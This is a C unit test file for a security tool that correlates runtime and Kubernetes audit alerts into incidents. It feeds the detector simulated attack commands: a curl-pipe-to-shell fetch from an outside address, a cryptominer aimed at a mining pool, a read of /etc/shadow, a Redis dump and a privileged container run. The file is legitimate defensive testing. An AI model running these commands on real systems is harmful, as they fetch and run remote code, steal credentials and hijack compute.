/* Unit tests: alerts grouped into incidents (correlator/incident.h), checked
 * through the JSON lines a user reads (alerts-out, incidents-out). Events
 * are built as agents and API servers send them and enriched for real. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "correlator/enrich.h"
#include "correlator/entity.h"
#include "correlator/incident.h"

#define SEC 1000000000LL
#define T0 (1767225600LL * SEC) /* 2026-01-01T00:00:00Z */
#define MAXL 512

typedef struct world {
    cw_enrich *e;
    cw_incidents *in;
    json_t *alerts[MAXL], *incs[MAXL];
    size_t n_alerts, n_incs;
    uint64_t seq;
    /* Agent events are received at recv_ns and may move the clocks at most
     * max_ahead_ns past it (cw_event_bound_clock); -1: unbounded. */
    int64_t recv_ns, max_ahead_ns;
} world;

static void on_line(void *ud, int is_incident, const char *line, size_t len)
{
    world *w = ud;
    json_error_t jerr;
    json_t *j = json_loadb(line, len, 0, &jerr);
    assert_non_null(j);
    if (is_incident) {
        assert_true(w->n_incs < MAXL);
        w->incs[w->n_incs++] = j;
    } else {
        assert_true(w->n_alerts < MAXL);
        w->alerts[w->n_alerts++] = j;
    }
}

static world *world_new(const cw_incident_opts *extra)
{
    world *w = calloc(1, sizeof *w);
    assert_int_equal(cw_enrich_create(&w->e, NULL), 0);
    cw_incident_opts o = extra ? *extra : (cw_incident_opts){0};
    o.enrich = w->e;
    o.on_line = on_line;
    o.ud = w;
    assert_int_equal(cw_incidents_create(&w->in, &o), 0);
    w->max_ahead_ns = -1;
    return w;
}

static void world_free(world *w)
{
    cw_incidents_free(w->in);
    cw_enrich_free(w->e);
    for (size_t i = 0; i < w->n_alerts; i++) json_decref(w->alerts[i]);
    for (size_t i = 0; i < w->n_incs; i++) json_decref(w->incs[i]);
    free(w);
}

static void hello(world *w, const char *agent, const char *cluster, const char *ip)
{
    Chainwatch__V1__Hello h = CHAINWATCH__V1__HELLO__INIT;
    char *ips[] = {(char *)ip};
    h.agent_id = (char *)agent;
    h.hostname = (char *)agent; /* host name = agent id, for brevity */
    h.cloud = "aliyun";
    h.region = "cn-hangzhou";
    h.cluster = (char *)cluster;
    h.n_ip_addresses = 1;
    h.ip_addresses = ips;
    cw_enrich_hello(w->e, agent, &h);
}

/* Normalizes, enriches and observes pb from agent; fills ev. */
static void agent_ev(world *w, const char *agent, Chainwatch__V1__Event *pb, cw_event *ev)
{
    assert_int_equal(cw_event_from_agent(ev, agent, ++w->seq, 0, pb, 0), 0);
    cw_event_bound_clock(ev, w->recv_ns, w->max_ahead_ns);
    cw_enrich_agent_event(w->e, ev);
    cw_incidents_agent_batch(w->in, agent); /* a batch of one */
    cw_incidents_observe(w->in, ev);
}

static void container(world *w, const char *agent, const char *cid, const char *ns,
                      const char *pod, const char *pod_ip, int64_t t)
{
    Chainwatch__V1__ContainerStart cs = CHAINWATCH__V1__CONTAINER_START__INIT;
    cs.container_id = (char *)cid;
    cs.pod_uid = (char *)pod; /* unique enough here */
    cs.pod = (char *)pod;
    cs.namespace_ = (char *)ns;
    cs.pod_ip = (char *)pod_ip;
    cs.service_account = "app";
    Chainwatch__V1__Event pb = CHAINWATCH__V1__EVENT__INIT;
    pb.has_time_ns = 1;
    pb.time_ns = t;
    pb.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_CONTAINER_START;
    pb.container_start = &cs;
    cw_event ev;
    agent_ev(w, agent, &pb, &ev);
}

static Chainwatch__V1__ProcessExec px;
static Chainwatch__V1__Login lg;
static Chainwatch__V1__Event pbe;
static char *argvbuf[8];

/* A process_exec of `cmd` (argv = {"sh", "-c", cmd}) in cid ("" = host). */
static void exec_ev(world *w, const char *agent, const char *cid, const char *cmd, int64_t t,
                    cw_event *ev)
{
    chainwatch__v1__process_exec__init(&px);
    chainwatch__v1__event__init(&pbe);
    argvbuf[0] = "sh";
    argvbuf[1] = "-c";
    argvbuf[2] = (char *)cmd;
    px.exe = "/bin/sh";
    px.argv = argvbuf;
    px.n_argv = 3;
    px.container_id = (char *)cid;
    pbe.has_time_ns = 1;
    pbe.time_ns = t;
    pbe.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC;
    pbe.process_exec = &px;
    agent_ev(w, agent, &pbe, ev);
}

static void login_ev(world *w, const char *agent, const char *src, int64_t t, cw_event *ev)
{
    chainwatch__v1__login__init(&lg);
    chainwatch__v1__event__init(&pbe);
    lg.user = "root";
    lg.src_ip = (char *)src;
    lg.service = "sshd";
    lg.has_success = 1;
    lg.success = 1;
    pbe.has_time_ns = 1;
    pbe.time_ns = t;
    pbe.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN;
    pbe.login = &lg;
    agent_ev(w, agent, &pbe, ev);
}

/* An audit event; the caller decrefs *j after using ev. */
static void audit_ev(world *w, const char *cluster, const char *user, const char *src,
                     const char *verb, const char *ns, const char *pod, const char *sub,
                     int64_t t, cw_event *ev, json_t **j)
{
    *j = json_pack("{s:s, s:s, s:s, s:s, s:{s:s}, s:[s], s:{s:s, s:s, s:s, s:s*}, s:{s:i}}",
                   "kind", "Event", "auditID", "a", "stage", "ResponseComplete", "verb", verb,
                   "user", "username", user, "sourceIPs", src, "objectRef", "resource", "pods",
                   "namespace", ns, "name", pod, "subresource", sub, "responseStatus", "code",
                   201);
    assert_non_null(*j);
    assert_int_equal(cw_event_from_audit(ev, cluster, *j, t), 0);
    cw_enrich_audit_event(w->e, ev);
    cw_incidents_observe(w->in, ev);
}

static const cw_rule_meta R_EXEC = {"t-exec", "Exec", CW_SEV_MEDIUM, "execution", "MS-TA9006",
                                    NULL, "mid"};
static const cw_rule_meta R_DISC = {"t-disc", "Discovery", CW_SEV_MEDIUM, "discovery", NULL,
                                    NULL, "post"};
static const cw_rule_meta R_CRED = {"t-cred", "Cred", CW_SEV_MEDIUM, "credential-access", NULL,
                                    NULL, "mid"};
static const cw_rule_meta R_IMPACT = {"t-impact", "Impact", CW_SEV_MEDIUM, "impact", NULL, NULL,
                                      "post"};
static const cw_rule_meta R_PRIV = {"t-priv", "Privesc", CW_SEV_MEDIUM, "privilege-escalation",
                                    NULL, NULL, "mid"};
static const cw_rule_meta R_INIT = {"t-init", "Anon", CW_SEV_MEDIUM, "initial-access", NULL, NULL,
                                    "pre"};
static const cw_rule_meta R_LOW = {"t-low", "Low", CW_SEV_LOW, "discovery", NULL, NULL, "post"};

static void fire(world *w, const cw_event *ev, const cw_rule_meta *r)
{
    cw_alert a = {.rule = r, .ev = ev, .time_ns = ev->time_ns, .summary = r->title};
    cw_incidents_alert(w->in, &a);
}

/* The incident id of the newest alert (NULL when it has none). */
static const char *last_alert_incident(world *w)
{
    assert_true(w->n_alerts > 0);
    return json_string_value(json_object_get(w->alerts[w->n_alerts - 1], "incident"));
}

/* The final state of incident id (last line), or NULL. */
static json_t *final(world *w, const char *id)
{
    for (size_t i = w->n_incs; i-- > 0;)
        if (strcmp(json_string_value(json_object_get(w->incs[i], "id")), id) == 0)
            return w->incs[i];
    return NULL;
}

/* Distinct incidents as the scenario checker counts them: last line per
 * id, status "merged" ignored. */
static size_t count_incidents(world *w)
{
    size_t n = 0;
    for (size_t i = 0; i < w->n_incs; i++) {
        const char *id = json_string_value(json_object_get(w->incs[i], "id"));
        if (final(w, id) != w->incs[i]) continue;
        if (strcmp(json_string_value(json_object_get(w->incs[i], "status")), "merged") == 0)
            continue;
        n++;
    }
    return n;
}

static int has(json_t *inc, const char *field, const char *value)
{
    json_t *arr = json_object_get(inc, field), *v;
    size_t i;
    json_array_foreach(arr, i, v) if (strcmp(json_string_value(v), value) == 0) return 1;
    return 0;
}

static const char *sev(json_t *inc)
{
    return json_string_value(json_object_get(inc, "severity"));
}

static char *dup_incident(world *w)
{
    const char *id = last_alert_incident(w);
    assert_non_null(id);
    return strdup(id);
}

/* ---------------------------------------------------------------- tests */

static void same_pod_and_host_link_other_host_does_not(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "node-a", "prod", "10.0.1.11");
    hello(w, "node-b", "prod", "10.0.1.12");
    container(w, "node-a", "c1", "shop", "web-1", "10.244.1.5", T0);
    cw_event ev;
    exec_ev(w, "node-a", "c1", "id", T0 + SEC, &ev);
    fire(w, &ev, &R_EXEC);
    char *first = dup_incident(w);
    exec_ev(w, "node-a", "", "cat /etc/shadow", T0 + 2 * SEC, &ev); /* same host, no pod */
    fire(w, &ev, &R_CRED);
    assert_string_equal(last_alert_incident(w), first);
    exec_ev(w, "node-b", "", "uname -a", T0 + 3 * SEC, &ev); /* same cluster, nothing shared */
    fire(w, &ev, &R_DISC);
    assert_string_not_equal(last_alert_incident(w), first);
    assert_int_equal(count_incidents(w), 2);
    json_t *inc = final(w, first);
    assert_true(has(inc, "pods", "shop/web-1"));
    assert_true(has(inc, "hosts", "node-a"));
    assert_false(has(inc, "hosts", "node-b"));
    assert_int_equal(json_integer_value(json_object_get(inc, "alert_count")), 2);
    free(first);
    world_free(w);
}

static void ssh_login_from_a_monitored_host_links_the_target(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "node-a", "prod", "10.0.1.11");
    hello(w, "node-b", "prod", "10.0.1.12");
    hello(w, "node-c", "prod", "10.0.1.13");
    cw_event ev;
    exec_ev(w, "node-a", "", "xmrig", T0, &ev);
    fire(w, &ev, &R_IMPACT);
    char *a = dup_incident(w);
    login_ev(w, "node-b", "10.0.1.11", T0 + 10 * SEC, &ev); /* no alert: a relation */
    exec_ev(w, "node-b", "", "sh /tmp/x", T0 + 11 * SEC, &ev);
    fire(w, &ev, &R_EXEC);
    assert_string_equal(last_alert_incident(w), a);
    /* node-c saw a login from outside the fleet: not linked. */
    login_ev(w, "node-c", "10.9.0.20", T0 + 12 * SEC, &ev);
    exec_ev(w, "node-c", "", "sh /tmp/y", T0 + 13 * SEC, &ev);
    fire(w, &ev, &R_EXEC);
    assert_string_not_equal(last_alert_incident(w), a);
    json_t *inc = final(w, a);
    assert_true(has(inc, "hosts", "node-a") && has(inc, "hosts", "node-b"));
    /* Impact at T0, execution later: not "impact after execution". */
    assert_string_equal(sev(inc), "medium");
    free(a);
    world_free(w);
}

static void audit_created_pod_links_to_runtime_alerts_in_it(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "node-a", "prod", "10.0.1.11");
    cw_event ev;
    json_t *j;
    audit_ev(w, "prod", "system:anonymous", "203.0.113.50", "create", "kube-system", "helper",
             NULL, T0, &ev, &j);
    fire(w, &ev, &R_INIT);
    json_decref(j);
    char *a = dup_incident(w);
    container(w, "node-a", "c9", "kube-system", "helper", "10.244.1.40", T0 + 2 * SEC);
    exec_ev(w, "node-a", "c9", "docker run --privileged", T0 + 3 * SEC, &ev);
    fire(w, &ev, &R_PRIV);
    assert_string_equal(last_alert_incident(w), a);
    json_t *inc = final(w, a);
    assert_true(has(inc, "pods", "kube-system/helper"));
    assert_true(has(inc, "clusters", "prod"));
    assert_true(has(inc, "phases", "pre") && has(inc, "phases", "mid"));
    free(a);
    world_free(w);
}

static void identity_behind_pod_ip_carries_the_incident_into_execd_pod(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "node-1", "prod-sh", "10.2.0.21");
    hello(w, "node-2", "prod-sh", "10.2.0.22");
    container(w, "node-1", "c1", "shop", "checkout", "10.244.3.15", T0);
    container(w, "node-2", "c2", "shop", "redis-0", "10.244.4.9", T0);
    cw_event ev;
    exec_ev(w, "node-1", "c1", "bash -i", T0 + SEC, &ev);
    fire(w, &ev, &R_EXEC);
    char *a = dup_incident(w);
    /* The checkout Pod's token execs into redis-0: observed, no alert. */
    json_t *j;
    audit_ev(w, "prod-sh", "system:serviceaccount:shop:checkout", "10.244.3.15", "create", "shop",
             "redis-0", "exec", T0 + 5 * SEC, &ev, &j);
    json_decref(j);
    exec_ev(w, "node-2", "c2", "redis-cli --rdb /tmp/d.rdb", T0 + 6 * SEC, &ev);
    fire(w, &ev, &R_CRED);
    assert_string_equal(last_alert_incident(w), a);
    json_t *inc = final(w, a);
    assert_true(has(inc, "pods", "shop/checkout") && has(inc, "pods", "shop/redis-0"));
    assert_true(has(inc, "hosts", "node-1") && has(inc, "hosts", "node-2"));
    free(a);
    world_free(w);
}

static void shared_public_ip_links_but_service_vip_does_not(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "vm-1", "", "172.31.5.14");
    hello(w, "vm-2", "", "172.31.9.20");
    hello(w, "vm-3", "", "172.31.9.21");
    cw_event ev;
    exec_ev(w, "vm-1", "", "curl http://198.51.100.23/x.sh | sh", T0, &ev);
    fire(w, &ev, &R_EXEC);
    char *a = dup_incident(w);
    exec_ev(w, "vm-2", "", "/tmp/.x/xrig -o stratum+tcp://198.51.100.23:14444", T0 + SEC, &ev);
    fire(w, &ev, &R_IMPACT);
    assert_string_equal(last_alert_incident(w), a);
    /* A private address that is no host or Pod (a service VIP) links nothing. */
    exec_ev(w, "vm-1", "", "curl -k https://10.96.0.1/api", T0 + 2 * SEC, &ev);
    fire(w, &ev, &R_DISC);
    exec_ev(w, "vm-3", "", "curl -k https://10.96.0.1/api", T0 + 3 * SEC, &ev);
    fire(w, &ev, &R_DISC);
    assert_string_not_equal(last_alert_incident(w), a);
    /* Domains are indicators too. */
    exec_ev(w, "vm-3", "", "wget http://Pool.Evil.example/m", T0 + 4 * SEC, &ev);
    fire(w, &ev, &R_EXEC);
    char *b = dup_incident(w);
    assert_string_not_equal(b, a);
    world_free(w);
    free(a);
    free(b);
}

static void a_shared_entity_merges_two_incidents_into_the_older(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "vm-1", "", "172.31.5.14");
    hello(w, "vm-2", "", "172.31.9.20");
    hello(w, "vm-3", "", "172.31.9.21");
    cw_event ev;
    exec_ev(w, "vm-1", "", "curl http://198.51.100.1/a", T0, &ev);
    fire(w, &ev, &R_EXEC);
    char *a = dup_incident(w);
    exec_ev(w, "vm-2", "", "curl http://198.51.100.2/b", T0 + SEC, &ev);
    fire(w, &ev, &R_EXEC);
    char *b = dup_incident(w);
    assert_string_not_equal(a, b);
    assert_int_equal(count_incidents(w), 2);
    exec_ev(w, "vm-3", "", "curl http://198.51.100.2/b http://198.51.100.1/a", T0 + 2 * SEC, &ev);
    fire(w, &ev, &R_IMPACT);
    assert_string_equal(last_alert_incident(w), a); /* the older survives */
    json_t *gone = final(w, b);
    assert_string_equal(json_string_value(json_object_get(gone, "status")), "merged");
    assert_string_equal(json_string_value(json_object_get(gone, "merged_into")), a);
    json_t *inc = final(w, a);
    assert_string_equal(json_string_value(json_object_get(inc, "status")), "open");
    assert_int_equal(json_integer_value(json_object_get(inc, "alert_count")), 3);
    assert_true(has(inc, "hosts", "vm-1") && has(inc, "hosts", "vm-2"));
    assert_true(has(inc, "hosts", "vm-3"));
    assert_int_equal(json_array_size(json_object_get(inc, "timeline")), 3);
    assert_int_equal(count_incidents(w), 1);
    /* Later alerts of vm-2 land in the survivor. */
    exec_ev(w, "vm-2", "", "id", T0 + 3 * SEC, &ev);
    fire(w, &ev, &R_DISC);
    assert_string_equal(last_alert_incident(w), a);
    free(a);
    free(b);
    world_free(w);
}

static void independent_clusters_stay_apart(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "n1", "east", "10.0.1.11");
    hello(w, "n2", "west", "10.1.1.11");
    container(w, "n1", "c1", "shop", "web-1", "10.244.1.5", T0);
    container(w, "n2", "c2", "shop", "web-1", "10.245.1.5", T0);
    cw_event ev;
    json_t *j;
    /* Same namespace/pod names, same user name, kube-system: nothing shared. */
    audit_ev(w, "east", "alice", "10.8.0.5", "create", "shop", "web-1", "exec", T0 + SEC, &ev,
             &j);
    fire(w, &ev, &R_EXEC);
    json_decref(j);
    char *a = dup_incident(w);
    audit_ev(w, "west", "alice", "10.8.0.5", "create", "shop", "web-1", "exec", T0 + 2 * SEC, &ev,
             &j);
    fire(w, &ev, &R_EXEC);
    json_decref(j);
    assert_string_not_equal(last_alert_incident(w), a);
    audit_ev(w, "west", "system:serviceaccount:kube-system:deployment-controller", "10.1.1.11",
             "create", "kube-system", "x", NULL, T0 + 3 * SEC, &ev, &j);
    fire(w, &ev, &R_DISC);
    json_decref(j);
    audit_ev(w, "east", "system:serviceaccount:kube-system:deployment-controller", "10.0.1.11",
             "create", "kube-system", "y", NULL, T0 + 4 * SEC, &ev, &j);
    fire(w, &ev, &R_DISC);
    json_decref(j);
    assert_int_equal(count_incidents(w), 4);
    free(a);
    world_free(w);
}

static void severity_rises_with_progression(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "h", "", "172.31.5.14");
    cw_event ev;
    exec_ev(w, "h", "", "a", T0, &ev);
    fire(w, &ev, &R_PRIV); /* before any execution */
    char *a = dup_incident(w);
    exec_ev(w, "h", "", "b", T0 + SEC, &ev);
    fire(w, &ev, &R_EXEC);
    assert_string_equal(sev(final(w, a)), "medium"); /* 2 tactics, privesc came first */
    exec_ev(w, "h", "", "c", T0 + 2 * SEC, &ev);
    fire(w, &ev, &R_DISC);
    assert_string_equal(sev(final(w, a)), "high"); /* 3 tactics */
    exec_ev(w, "h", "", "d", T0 + 3 * SEC, &ev);
    fire(w, &ev, &R_CRED);
    assert_string_equal(sev(final(w, a)), "critical"); /* 4 tactics */
    free(a);

    /* Execution then impact: critical with two tactics. */
    hello(w, "g", "", "172.31.5.15");
    exec_ev(w, "g", "", "a", T0 + 10 * SEC, &ev);
    fire(w, &ev, &R_EXEC);
    a = dup_incident(w);
    assert_string_equal(sev(final(w, a)), "medium");
    exec_ev(w, "g", "", "b", T0 + 11 * SEC, &ev);
    fire(w, &ev, &R_IMPACT);
    assert_string_equal(sev(final(w, a)), "critical");
    json_t *tl = json_object_get(final(w, a), "timeline");
    assert_string_equal(json_string_value(json_object_get(json_array_get(tl, 0), "tactic")),
                        "execution");
    free(a);
    world_free(w);
}

static void low_alerts_never_open_but_join(void **state)
{
    (void)state;
    world *w = world_new(NULL);
    hello(w, "h", "", "172.31.5.14");
    cw_event ev;
    exec_ev(w, "h", "", "a", T0, &ev);
    fire(w, &ev, &R_LOW);
    assert_null(last_alert_incident(w));
    assert_int_equal(w->n_incs, 0);
    exec_ev(w, "h", "", "b", T0 + SEC, &ev);
    fire(w, &ev, &R_EXEC);
    char *a = dup_incident(w);
    exec_ev(w, "h", "", "c", T0 + 2 * SEC, &ev);
    fire(w, &ev, &R_LOW);
    assert_string_equal(last_alert_incident(w), a);
    /* The alert lines carry what FORMAT.md lists. */
    json_t *al = w->alerts[w->n_alerts - 1];
    const char *keys[] = {"id", "rule", "title", "severity", "time", "host", "cluster",
                          "namespace", "pod", "container_id", "tactic", "technique", "attack",
                          "phase", "summary", "incident"};
    for (size_t i = 0; i < sizeof keys / sizeof *keys; i++)
        assert_non_null(json_object_get(al, keys[i]));
    assert_string_equal(json_string_value(json_object_get(al, "severity")), "low");
    assert_string_equal(json_string_value(json_object_get(al, "time")),
                        "2026-01-01T00:00:02.000000000Z");
    free(a);
    world_free(w);
}

static void windows_are_event_time(void **state)
{
    (void)state;
    cw_incident_opts o = {.link_window_ns = 3600 * SEC, .idle_close_ns = 4 * 3600 * SEC};
    world *w = world_new(&o);
    hello(w, "h", "", "172.31.5.14");
    cw_event ev;
    exec_ev(w, "h", "", "a", T0, &ev);
    fire(w, &ev, &R_EXEC);
    char *a = dup_incident(w);
    exec_ev(w, "h", "", "b", T0 + 3500 * SEC, &ev); /* a slow step, inside the window */
    fire(w, &ev, &R_DISC);
    assert_string_equal(last_alert_incident(w), a);
    exec_ev(w, "h", "", "c", T0 + 3500 * SEC + 3601 * SEC, &ev); /* past it */
    fire(w, &ev, &R_DISC);
    char *b = dup_incident(w);
    assert_string_not_equal(b, a);
    /* 4 h after its last alert, the first incident is closed (a last line). */
    exec_ev(w, "h", "", "d", T0 + 3500 * SEC + 4 * 3600 * SEC + SEC, &ev);
    json_t *inc = final(w, a);
    assert_string_equal(json_string_value(json_object_get(inc, "status")), "closed");
    assert_int_equal(count_incidents(w), 2);
    cw_incident_stats st;
    cw_incidents_get_stats(w->in, &st);
    assert_int_equal(st.open, 1);
    assert_int_equal(st.closed_idle, 1);
    free(a);
    free(b);
    world_free(w);
}

/* Mid-attack, another node whose clock is three days fast (or an agent
 * that lies about time) sends an ordinary event. Bounded by its receive
 * time, it closes nothing: the attack's next step joins the incident. */
static int fast_clock_run(int64_t max_ahead_ns, char **first, char **second)
{
    cw_incident_opts o = {.link_window_ns = 3600 * SEC, .idle_close_ns = 4 * 3600 * SEC};
    world *w = world_new(&o);
    w->max_ahead_ns = max_ahead_ns;
    hello(w, "h", "", "172.31.5.14");
    hello(w, "fast", "", "172.31.5.15");
    cw_event ev;
    w->recv_ns = T0;
    exec_ev(w, "h", "", "a", T0, &ev);
    fire(w, &ev, &R_EXEC);
    *first = dup_incident(w);
    w->recv_ns = T0 + 10 * SEC;
    exec_ev(w, "fast", "", "date", T0 + 3 * 86400 * SEC, &ev);
    w->recv_ns = T0 + 60 * SEC;
    exec_ev(w, "h", "", "b", T0 + 60 * SEC, &ev);
    fire(w, &ev, &R_DISC);
    *second = strdup(last_alert_incident(w));
    cw_incident_stats st;
    cw_incidents_get_stats(w->in, &st);
    world_free(w);
    return (int)st.closed_idle;
}

static void fast_clock_closes_nothing(void **state)
{
    (void)state;
    char *a, *b;
    assert_int_equal(fast_clock_run(300 * SEC, &a, &b), 0);
    assert_string_equal(a, b);
    free(a);
    free(b);
    /* What the bound prevents: with the event's own time as the clock the
     * incident is closed as idle and the next step opens another. */
    assert_int_equal(fast_clock_run(-1, &a, &b), 1);
    assert_string_not_equal(a, b);
    free(a);
    free(b);
}

static void caps_bound_state(void **state)
{
    (void)state;
    cw_incident_opts o = {.max_incidents = 2, .max_alerts = 3, .max_entities = 64};
    world *w = world_new(&o);
    char agent[16];
    cw_event ev;
    char *first = NULL;
    for (int i = 0; i < 3; i++) {
        snprintf(agent, sizeof agent, "h%d", i);
        hello(w, agent, "", "172.31.5.14");
        exec_ev(w, agent, "", "x", T0 + i * SEC, &ev);
        fire(w, &ev, &R_EXEC);
        if (i == 0) first = dup_incident(w);
    }
    /* The third closed the least recently updated (the first). */
    assert_string_equal(json_string_value(json_object_get(final(w, first), "status")), "closed");
    cw_incident_stats st;
    cw_incidents_get_stats(w->in, &st);
    assert_int_equal(st.open, 2);
    assert_int_equal(st.evicted, 1);
    for (int i = 0; i < 4; i++) {
        exec_ev(w, "h2", "", "y", T0 + (10 + i) * SEC, &ev);
        fire(w, &ev, &R_DISC);
    }
    json_t *inc = final(w, last_alert_incident(w));
    assert_int_equal(json_integer_value(json_object_get(inc, "alert_count")), 5);
    assert_int_equal(json_array_size(json_object_get(inc, "alerts")), 3);
    assert_int_equal(json_integer_value(json_object_get(inc, "alerts_dropped")), 2);
    /* Many distinct indicators: the entity index stays at its cap. */
    for (int i = 0; i < 100; i++) {
        char cmd[64];
        snprintf(cmd, sizeof cmd, "curl http://198.51.%d.%d/", i / 50, i % 50 + 1);
        exec_ev(w, "h2", "", cmd, T0 + (20 + i) * SEC, &ev);
        fire(w, &ev, &R_DISC);
    }
    cw_incidents_get_stats(w->in, &st);
    assert_true(st.entities <= 64);
    assert_true(st.entities_evicted > 0);
    free(first);
    world_free(w);
}

static int ip_public(const char *ip)
{
    enum cw_ip_class c = cw_entity_ip_class(ip);
    return c == CW_IP_PUBLIC ? 1 : c == CW_IP_PRIVATE ? 0 : -1;
}

static void ip_classes(void **state)
{
    (void)state;
    assert_int_equal(ip_public("198.51.100.7"), 1);
    assert_int_equal(ip_public("203.0.113.50"), 1);
    assert_int_equal(ip_public("8.8.8.8"), 1);
    assert_int_equal(ip_public("2001:db8::1"), 1);
    const char *priv[] = {"10.0.0.1", "172.16.0.1", "172.31.255.1", "192.168.1.1", "127.0.0.1",
                          "169.254.169.254", "100.100.2.148", "::1", "fe80::1", "fd00::1",
                          "::ffff:10.0.0.1", "224.0.0.1"};
    for (size_t i = 0; i < sizeof priv / sizeof *priv; i++)
        assert_int_equal(ip_public(priv[i]), 0);
    assert_int_equal(ip_public("not-an-ip"), -1);
}

static double metric(const char *text, const char *series)
{
    const char *p = strstr(text, series);
    assert_non_null(p);
    return strtod(p + strlen(series), NULL);
}

/* Runs last: the rule table is process-wide. */
static void metrics_count_alerts_and_bound_rule_labels(void **state)
{
    (void)state;
    cw_buf b;
    cw_buf_init(&b, 1u << 24);
    assert_int_equal(cw_metrics_render(&b), 0);
    cw_buf_append(&b, "", 1);
    double med0 = metric((char *)b.data, "chainwatch_alerts_total{severity=\"medium\"} ");
    double inc0 = metric((char *)b.data, "chainwatch_incidents_total{severity=\"medium\"} ");
    world *w = world_new(NULL);
    hello(w, "h", "", "172.31.5.14");
    cw_event ev;
    exec_ev(w, "h", "", "a", T0, &ev);
    fire(w, &ev, &R_EXEC);
    exec_ev(w, "h", "", "b", T0 + SEC, &ev);
    fire(w, &ev, &R_EXEC);
    world_free(w);
    cw_metrics_alert_rule("quote\"and\\slash");
    for (int i = 0; i < CW_METRICS_MAX_RULES + 5; i++) {
        char id[32];
        snprintf(id, sizeof id, "r-%d", i);
        cw_metrics_alert_rule(id);
    }
    cw_buf_reset(&b);
    assert_int_equal(cw_metrics_render(&b), 0);
    cw_buf_append(&b, "", 1);
    const char *t = (const char *)b.data;
    assert_true(metric(t, "chainwatch_alerts_total{severity=\"medium\"} ") == med0 + 2);
    assert_true(metric(t, "chainwatch_incidents_total{severity=\"medium\"} ") == inc0 + 1);
    assert_true(metric(t, "chainwatch_alerts_by_rule_total{rule=\"t-exec\"} ") >= 2);
    assert_non_null(strstr(t, "{rule=\"quote\\\"and\\\\slash\"}"));
    assert_true(metric(t, "chainwatch_alerts_by_rule_total{rule=\"_other\"} ") >= 5);
    size_t series = 0;
    for (const char *p = t; (p = strstr(p, "chainwatch_alerts_by_rule_total{")); p++) series++;
    assert_true(series <= CW_METRICS_MAX_RULES + 1);
    cw_buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(same_pod_and_host_link_other_host_does_not),
        cmocka_unit_test(ssh_login_from_a_monitored_host_links_the_target),
        cmocka_unit_test(audit_created_pod_links_to_runtime_alerts_in_it),
        cmocka_unit_test(identity_behind_pod_ip_carries_the_incident_into_execd_pod),
        cmocka_unit_test(shared_public_ip_links_but_service_vip_does_not),
        cmocka_unit_test(a_shared_entity_merges_two_incidents_into_the_older),
        cmocka_unit_test(independent_clusters_stay_apart),
        cmocka_unit_test(severity_rises_with_progression),
        cmocka_unit_test(low_alerts_never_open_but_join),
        cmocka_unit_test(windows_are_event_time),
        cmocka_unit_test(fast_clock_closes_nothing),
        cmocka_unit_test(caps_bound_state),
        cmocka_unit_test(ip_classes),
        cmocka_unit_test(metrics_count_alerts_and_bound_rule_labels),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
